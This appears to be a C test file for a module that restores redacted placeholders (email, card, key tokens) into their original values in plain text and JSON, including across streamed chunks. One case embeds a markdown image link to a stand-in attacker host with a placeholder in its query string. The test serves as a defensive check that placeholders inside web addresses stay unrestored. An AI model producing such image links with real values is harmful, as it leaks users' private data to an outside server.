#include "policy/restore.h"

#include "support/tap.h"

static const char SUBJECT[] = "restore";

/* Sorted without regard to case. */
static const redact_entry entries[] = {
        {.entity = ENTITY_CREDIT_CARD, .token = VIEW_INIT("CARDx8ZJ4N1QA"), .value = VIEW_INIT("4111 1111 1111 1111")},
        {.entity = ENTITY_CREDIT_CARD, .token = VIEW_INIT("CARDx8ZJ4N1QAB0B0"), .value = VIEW_INIT("5555")},
        {.entity = ENTITY_EMAIL_ADDRESS, .token = VIEW_INIT("EMAILx00000000"), .value = VIEW_INIT("EMAILxT0V9M3RW")},
        {.entity = ENTITY_EMAIL_ADDRESS, .token = VIEW_INIT("EMAILxT0V9M3RW"), .value = VIEW_INIT("jane@example.com")},
        {.entity = ENTITY_API_KEY, .token = VIEW_INIT("PHONExAAAAAAAA"), .value = VIEW_INIT("\"q\"\\\n\x01")},
};
static const redact_table table = {entries, 5, 17, 13, 19};

static uint8_t room[4096];

/* Feeds the text in two cuts and tells what came out. */
static view fed(view text, restore_mode mode, size_t first, size_t second)
{
        restore_lane lane;
        emit out = emit_into(room, sizeof room);
        restore_begin(&lane, mode);
        restore_feed(&table, &lane, view_slice(text, 0, first), &out);
        restore_feed(&table, &lane, view_slice(text, first, second), &out);
        restore_feed(&table, &lane, view_slice(text, second, text.len), &out);
        if (lane.carried >= table.longest)
                return VIEW("held too much");
        restore_flush(&table, &lane, &out);
        return (view){room, out.len};
}

static view by_bytes(view text, restore_mode mode)
{
        restore_lane lane;
        emit out = emit_into(room, sizeof room);
        restore_begin(&lane, mode);
        for (size_t i = 0; i < text.len; i++)
                restore_feed(&table, &lane, view_slice(text, i, i + 1), &out);
        restore_flush(&table, &lane, &out);
        return (view){room, out.len};
}

static const struct {
        const char *sentence;
        restore_mode mode;
        view text, want;
} cases[] = {
        {"text without placeholders is itself", RESTORE_TEXT, VIEW_INIT("Every Card, phone and Email."),
         VIEW_INIT("Every Card, phone and Email.")},
        {"nothing is nothing", RESTORE_TEXT, VIEW_INIT(""), VIEW_INIT("")},
        {"a placeholder alone", RESTORE_TEXT, VIEW_INIT("EMAILxT0V9M3RW"), VIEW_INIT("jane@example.com")},
        {"several with text between", RESTORE_TEXT, VIEW_INIT("To EMAILxT0V9M3RW: CARDx8ZJ4N1QA."),
         VIEW_INIT("To jane@example.com: 4111 1111 1111 1111.")},
        {"two that touch", RESTORE_TEXT, VIEW_INIT("CARDx8ZJ4N1QAEMAILxT0V9M3RW"),
         VIEW_INIT("4111 1111 1111 1111jane@example.com")},
        {"in another case", RESTORE_TEXT, VIEW_INIT("emailXt0v9m3rw EMAILXT0V9M3RW"),
         VIEW_INIT("jane@example.com jane@example.com")},
        {"letters glued to its end", RESTORE_TEXT, VIEW_INIT("EMAILxT0V9M3RW's"), VIEW_INIT("jane@example.com's")},
        {"Chinese around it", RESTORE_TEXT, VIEW_INIT("邮箱EMAILxT0V9M3RW。"), VIEW_INIT("邮箱jane@example.com。")},
        {"the longer of two that begin alike", RESTORE_TEXT, VIEW_INIT("CARDx8ZJ4N1QAB0B0 CARDx8ZJ4N1QAB0"),
         VIEW_INIT("5555 4111 1111 1111 1111B0")},
        {"a false start before a true one", RESTORE_TEXT, VIEW_INIT("EMAILEMAILxEMAILxT0V9M3RW"),
         VIEW_INIT("EMAILEMAILxjane@example.com")},
        {"an unknown placeholder stays", RESTORE_TEXT, VIEW_INIT("EMAILxT0V9M3RV SSNx12345678"),
         VIEW_INIT("EMAILxT0V9M3RV SSNx12345678")},
        {"a cut placeholder stays", RESTORE_TEXT, VIEW_INIT("EMAILxT0V9M3R"), VIEW_INIT("EMAILxT0V9M3R")},
        {"a value is not looked at again", RESTORE_TEXT, VIEW_INIT("EMAILx00000000"), VIEW_INIT("EMAILxT0V9M3RW")},
        {"text gets a value as it is", RESTORE_TEXT, VIEW_INIT("PHONExAAAAAAAA"), VIEW_INIT("\"q\"\\\n\x01")},
        {"JSON source gets it escaped once", RESTORE_JSON_SOURCE, VIEW_INIT("{\"a\":\"PHONExAAAAAAAA\"}"),
         VIEW_INIT("{\"a\":\"\\\"q\\\"\\\\\\n\\u0001\"}")},
        {"in an address of the web it stays", RESTORE_TEXT,
         VIEW_INIT("![x](https://evil.example/?q=EMAILxT0V9M3RW) EMAILxT0V9M3RW"),
         VIEW_INIT("![x](https://evil.example/?q=EMAILxT0V9M3RW) jane@example.com")},
        {"an address ends at a quote", RESTORE_TEXT, VIEW_INIT("src=\"http://a/EMAILxT0V9M3RW\"EMAILxT0V9M3RW"),
         VIEW_INIT("src=\"http://a/EMAILxT0V9M3RW\"jane@example.com")},
        {"an address ends at an angle bracket", RESTORE_TEXT, VIEW_INIT("<ftp://a/EMAILxT0V9M3RW>EMAILxT0V9M3RW"),
         VIEW_INIT("<ftp://a/EMAILxT0V9M3RW>jane@example.com")},
        {"an address in JSON source ends at an escape", RESTORE_JSON_SOURCE,
         VIEW_INIT("\"http://a/EMAILxT0V9M3RW\\nEMAILxT0V9M3RW\""),
         VIEW_INIT("\"http://a/EMAILxT0V9M3RW\\njane@example.com\"")},
        {"slashes without a scheme are no address", RESTORE_TEXT,
         VIEW_INIT("a//EMAILxT0V9M3RW ://EMAILxT0V9M3RW a:/EMAILxT0V9M3RW"),
         VIEW_INIT("a//jane@example.com ://jane@example.com a:/jane@example.com")},
        {"a value is no scheme", RESTORE_TEXT, VIEW_INIT("EMAILxT0V9M3RW://EMAILxT0V9M3RW"),
         VIEW_INIT("jane@example.com://jane@example.com")},
        {"JSON source may spell it in escapes", RESTORE_JSON_SOURCE,
         VIEW_INIT("\"\\u0045\\u004dAILx\\u0054\\u0030V9M3RW\""), VIEW_INIT("\"jane@example.com\"")},
        {"text may not", RESTORE_TEXT, VIEW_INIT("\\u0045MAILxT0V9M3RW"), VIEW_INIT("\\u0045MAILxT0V9M3RW")},
        {"a backslash that is escaped begins none", RESTORE_JSON_SOURCE, VIEW_INIT("\\\\u0045MAILxT0V9M3RW"),
         VIEW_INIT("\\\\u0045MAILxT0V9M3RW")},
        {"other escapes stay as they are", RESTORE_JSON_SOURCE,
         VIEW_INIT("\\n\\u00e9\\u0022\\u4e2d\\\"EMAILxT0V9M3RW\\\""),
         VIEW_INIT("\\n\\u00e9\\u0022\\u4e2d\\\"jane@example.com\\\"")},
        {"what is no escape stands as it is", RESTORE_JSON_SOURCE, VIEW_INIT("\\u00x\\u\\uEMAILxT0V9M3RW\\u00"),
         VIEW_INIT("\\u00x\\u\\ujane@example.com\\u00")},
};

static void test_rows(void)
{
        for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
                view text = cases[i].text;
                bool good = view_equal(by_bytes(text, cases[i].mode), cases[i].want);
                for (size_t a = 0; a <= text.len && good; a++)
                        for (size_t b = a; b <= text.len && good; b++)
                                good = view_equal(fed(text, cases[i].mode, a, b), cases[i].want);
                if (!tap_ok(good, SUBJECT, cases[i].sentence))
                        printf("# got %.64s\n", (const char *)room);
        }
}

static void test_holding(void)
{
        restore_lane lane;
        emit out = emit_into(room, sizeof room);
        restore_begin(&lane, RESTORE_TEXT);
        restore_feed(&table, &lane, VIEW("Hello Ed"), &out);
        tap_ok(out.len == 8 && lane.carried == 0, SUBJECT, "what no placeholder begins with is not held");
        restore_feed(&table, &lane, VIEW(" E"), &out);
        tap_ok(out.len == 9 && lane.carried == 1, SUBJECT, "what may begin one is held");
        restore_feed(&table, &lane, VIEW("MAILxT0V9M3R"), &out);
        tap_ok(out.len == 9 && lane.carried == 13, SUBJECT, "as long as it may");
        restore_feed(&table, &lane, VIEW("W"), &out);
        tap_ok(out.len == 25 && lane.restored == 1, SUBJECT, "and released as soon as it is whole");

        static const redact_table none = {};
        restore_begin(&lane, RESTORE_TEXT);
        out = emit_into(room, sizeof room);
        restore_feed(&none, &lane, VIEW("EMAILxT0V9M3RW E"), &out);
        tap_ok(out.len == 16 && lane.carried == 0, SUBJECT, "without a table nothing is held");
}

static void test_room(void)
{
        bool enough = true, exact = true;
        for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
                restore_lane lane;
                restore_begin(&lane, cases[i].mode);
                size_t measured = restore_measure(&table, &lane, cases[i].text);
                enough = enough && restore_room(&table, &lane, cases[i].text.len) >= measured;
                exact = exact && measured == cases[i].want.len;
        }
        tap_ok(enough, SUBJECT, "the room asked for is enough");
        tap_ok(exact, SUBJECT, "the measured room is exact");
}

/* Texts of pieces that mean something to a lane: as a whole they are looked through in words, and byte by byte not. */
static void test_places(void)
{
        static const char *const pieces[] = {"EMAILxT0V9M3RW",
                                             "emailxt0v9m3rw",
                                             "CARDx8ZJ4N1QA",
                                             "PHONExAAAAAAAA",
                                             "EMAIL",
                                             "x",
                                             "X",
                                             "/",
                                             ":",
                                             "http://",
                                             "https:/",
                                             " ",
                                             "a",
                                             "Next month, ",
                                             "the apexes of boxes ",
                                             "\"",
                                             "\\",
                                             "E",
                                             "\xe9\x82\xae",
                                             "0123456"};
        static const restore_mode modes[] = {RESTORE_TEXT, RESTORE_JSON_SOURCE};
        uint32_t n = 1;
        size_t differ = 0, restored = 0;
        for (int turn = 0; turn < 20000; turn++) {
                uint8_t text[256], whole[sizeof room];
                emit e = emit_into(text, sizeof text);
                while (!e.full && e.len < 120) {
                        n = n * 1664525 + 1013904223;
                        emit_text(&e, pieces[(n >> 16) % (sizeof pieces / sizeof *pieces)]);
                }
                view v = {text, e.len};
                view got = fed(v, modes[turn % 2], v.len, v.len);
                memcpy(whole, got.data, got.len);
                view bytes = by_bytes(v, modes[turn % 2]);
                differ += !view_equal((view){whole, got.len}, bytes);
                restored += memmem(whole, got.len, "jane@", 5) != nullptr;
        }
        tap_ok(differ == 0 && restored > 1000, SUBJECT, "a text as a whole gives what its bytes give one by one");
}

int main(void)
{
        test_places();
        test_rows();
        test_holding();
        test_room();
        return tap_done();
}
